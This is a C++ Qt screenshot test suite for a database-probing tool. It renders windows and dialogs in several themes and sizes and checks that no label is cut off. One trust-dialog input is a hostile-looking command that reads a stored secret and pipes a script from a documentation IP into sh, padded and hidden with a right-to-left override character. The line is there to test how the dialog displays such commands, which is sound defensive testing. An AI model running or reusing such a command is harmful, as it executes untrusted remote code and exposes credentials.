// Pictures of the window in every state that matters.
#include "pictures.h"
#include "support/paths.h"
#include "support/sample_snapshots.h"
#include "window/import_dialog.h"
#include "window/login_dialog.h"
#include "window/paste_field.h"
#include "window/project_dialog.h"
#include "window/recordings_dialog.h"
#include "window/secrets_dialog.h"
#include "window/ssh_dialog.h"
#include "window/trust_dialog.h"
#include "window/welcome_page.h"
#include "window_under_test.h"

#include <QListWidget>
#include <QTreeWidget>

#include <gtest/gtest.h>

namespace whichbase {

namespace {

using test::bothSides;
using test::expectNothingCut;
using test::oneSide;
using test::save;

struct Scene {
  std::string name;
  std::function<ui::View()> view;
};

std::vector<Scene> scenes() {
  return {
      {"3-incident", [] { return bothSides(samples::incidentBefore(), samples::incidentAfter()); }},
      {"3-incident-stale",
       [] {
         auto view = bothSides(samples::incidentBefore(), samples::incidentAfter());
         view.stale = QStringLiteral("Last known state, from 14:20 UTC. The probe at 14:31 UTC reached none of the 3 "
                                     "servers: connection refused.");
         return view;
       }},
      {"3-incident-now", [] { return oneSide(samples::incidentBefore()); }},
      {"1", [] { return oneSide(samples::oneServer()); }},
      {"2", [] { return oneSide(samples::twoServers()); }},
      {"12", [] { return oneSide(samples::twelveServers()); }},
      {"60", [] { return oneSide(samples::sixtyServers()); }},
      {"60-both", [] { return bothSides(samples::sixtyServers(), samples::sixtyServers()); }},
      {"unreachable", [] { return oneSide(samples::allUnreachable()); }},
      {"one-side",
       [] {
         const auto sides = samples::oneSideEmpty();
         return bothSides(sides.before, sides.after);
       }},
      {"before-only",
       [] {
         auto view = ui::makeView(std::make_shared<const topology::Snapshot>(samples::incidentBefore()), nullptr);
         view.beforeRecorded = true;
         return view;
       }},
      {"unknown-identity", [] { return oneSide(samples::unknownIdentity()); }},
      {"long-names", [] { return oneSide(samples::longNames()); }},
      {"long-names-both", [] { return bothSides(samples::longNames(), samples::longNames()); }},
      {"replica", [] { return oneSide(samples::replica()); }},
  };
}

} // namespace

class Pictures : public testing::TestWithParam<std::tuple<bool, bool>> {};

TEST_P(Pictures, EveryStateRendersWithNoLabelCut) {
  const auto [dark, small] = GetParam();
  ui::WindowOptions options;
  options.dark = dark;
  const test::WindowUnderTest test(options, small ? QSize(1024, 700) : QSize(1440, 900));
  for (const auto& scene : scenes()) {
    test.document().openView(scene.view());
    test.wait([] { return false; }, 60);
    const std::string name = scene.name + (dark ? "-dark" : "-light") + (small ? "-1024" : "-1440");
    expectNothingCut(*test.window, name);
    save(*test.window, name);
  }
}

TEST_P(Pictures, TabsAndDialogsRenderWithNoLabelCut) {
  const auto [dark, small] = GetParam();
  ui::WindowOptions options;
  options.dark = dark;
  options.demo.start = [](std::stop_token) { return ui::DemoHooks::Started{}; };
  const test::WindowUnderTest test(options, small ? QSize(1024, 700) : QSize(1440, 900));
  const std::string ending = std::string(dark ? "-dark" : "-light") + (small ? "-1024" : "-1440");
  const auto take = [&](const QWidget& widget, const std::string& name) {
    test.wait([] { return false; }, 40);
    expectNothingCut(widget, name + ending);
    save(widget, name + ending);
  };
  for (const auto* url :
       {"postgresql://tovplay:s@postgres:5432/TovPlay", "postgresql://ops@example.org:s@203.0.113.196:5432/TovPlay",
        "postgresql://u:s@localhost/x"}) {
    test.window->welcome().findChild<ui::PasteField*>()->setPlainText(QString::fromLatin1(url));
    QTest::keyClick(test.window->welcome().findChild<ui::PasteField*>(), Qt::Key_Return);
  }
  take(*test.window, "welcome");
  test.document().openView(bothSides(samples::incidentBefore(), samples::incidentAfter()));
  test.window->workspace().setSelection({{}, QStringLiteral("B")});
  test.window->messages().show(QStringLiteral("probe"), ui::Sign::warning,
                               QStringLiteral("EXTERNAL_PASSWORD has no value: type it for this run, or set the "
                                              "environment variable."),
                               {{QStringLiteral("Type…"), [] {}}, {QStringLiteral("Probe the others"), [] {}}});
  for (int tab = 0; tab < 5; ++tab) {
    test.window->workspace().showTab(tab);
    take(*test.window, "tab-" + std::to_string(tab + 1));
  }
  for (const auto& [name, snapshot] :
       {std::pair("routes", samples::routes()), std::pair("60", samples::sixtyServers()),
        std::pair("long-names", samples::longNames()), std::pair("many", samples::manyServers(40, 12)),
        std::pair("unreachable", samples::allUnreachable())}) {
    test.document().openView(oneSide(snapshot));
    test.window->workspace().showTab(3);
    test.window->workspace().setSelection({QStringLiteral("Report Worker"), {}});
    take(*test.window, std::string("matrix-") + name);
  }
  project::Project project;
  ui::ProjectDialog dialog(project, {}, test.window.get());
  dialog.paste(QStringLiteral("postgresql://ops@example.org:s@203.0.113.196:5432/TovPlay"));
  dialog.show();
  take(dialog, "project-dialog");
  ui::SecretsDialog secrets({{QStringLiteral("${EXTERNAL_PASSWORD}"), {}, false},
                             {QStringLiteral("app@db.example.org:5432/shop via ssh -p 2222 me@prod.example.org"),
                              QStringLiteral("Production Backend, Dashboard"), true}},
                            {}, test.window.get());
  secrets.setAttribute(Qt::WA_DeleteOnClose, false);
  secrets.show();
  take(secrets, "secrets-dialog");
  ui::RecordingsDialog recordings(test.window.get());
  recordings.setAttribute(Qt::WA_DeleteOnClose, false);
  recordings.show();
  take(recordings, "recordings-dialog");
}

TEST_P(Pictures, WhatAsksSomebodyRendersWithNoLabelCut) {
  const auto [dark, small] = GetParam();
  ui::WindowOptions options;
  options.dark = dark;
  const test::WindowUnderTest test(options, small ? QSize(1024, 700) : QSize(1440, 900));
  const std::string ending = std::string(dark ? "-dark" : "-light") + (small ? "-1024" : "-1440");
  const auto take = [&](QDialog& dialog, const std::string& name) {
    dialog.setAttribute(Qt::WA_DeleteOnClose, false);
    dialog.show();
    test.wait([] { return false; }, 80);
    expectNothingCut(dialog, name + ending);
    save(dialog, name + ending);
  };
  project::Requests requests;
  requests.commands = {"ssh prod docker exec backend printenv", "command kubectl exec -i deploy/backend -- nc %h %p",
                       std::string("pass show db/prod; curl  -s https://203.0.113.9/x |\nsh \xe2\x80\xae") +
                           std::string(200, 'x')};
  requests.secrets = {{"EXTERNAL_PASSWORD", "203.0.113.196:5432"}, {"LOCAL_PASSWORD", "postgres:5432"}};
  const auto theme = dark ? ui::Theme::dark_() : ui::Theme::light();
  ui::TrustDialog trust(requests, QStringLiteral("tovplay.whichbase.toml"), theme, test.window.get());
  take(trust, "trust-dialog");
  ui::LoginDialog login(QStringLiteral("ssh -o ControlMaster=yes -o ControlPersist=10m -p 2222 me@prod.example.org"),
                        test.window.get());
  take(login, "login-dialog");
  ui::SshDialog ssh({}, true, test.window.get());
  take(ssh, "ssh-dialog");
  const QString folder = QString::fromStdString((test::dataFolder() / "import").string());
  ui::ImportDialog importing({folder}, {}, true, test.window.get());
  test.wait([&] { return importing.findChild<QTreeWidget*>()->topLevelItemCount() > 0; }, 20000);
  take(importing, "import-dialog");
  project::Project project;
  for (const auto* from :
       {"", "env-file backend/.env", "compose docker-compose.yml docker-compose.override.yml backend",
        "kubernetes manifests/ deployment/backend", "service mydb", "command ssh prod docker exec backend printenv",
        "compose nothing.yml"}) {
    auto& server = project.servers.emplace_back();
    server.name = "Server " + std::to_string(project.servers.size());
    server.present = project::ConnectionSpec{*from ? "" : "postgresql://u@203.0.113.196/x", {}, from};
    server.present->via = project.servers.size() % 2 == 0 ? "ssh prod" : "command docker exec -i backend nc %h";
  }
  ui::ProjectDialog edit(project, {}, test.window.get());
  edit.resize(small ? QSize(980, 640) : QSize(980, 740));
  for (int row = 0; row < 7; ++row) {
    edit.findChild<QListWidget*>()->setCurrentRow(row);
    take(edit, "server-form-" + std::to_string(row + 1));
  }
}

TEST_P(Pictures, AProjectThatWasNotProbedYetSaysSo) {
  const auto [dark, small] = GetParam();
  ui::WindowOptions options;
  options.dark = dark;
  const test::WindowUnderTest test(options, small ? QSize(1024, 700) : QSize(1440, 900));
  project::Project project;
  for (const auto* name : {"Production Backend", "Dashboard", "Staging Backend"}) {
    auto& server = project.servers.emplace_back();
    server.name = name;
    server.present = project::ConnectionSpec{"postgresql://u@203.0.113.196/x", {}};
  }
  test.document().adopt(project, {}, {});
  test.wait([] { return false; }, 60);
  const std::string name = std::string("not-probed") + (dark ? "-dark" : "-light") + (small ? "-1024" : "-1440");
  expectNothingCut(*test.window, name);
  save(*test.window, name);
}

INSTANTIATE_TEST_SUITE_P(LightAndDarkLargeAndSmall, Pictures, testing::Combine(testing::Bool(), testing::Bool()));

} // namespace whichbase
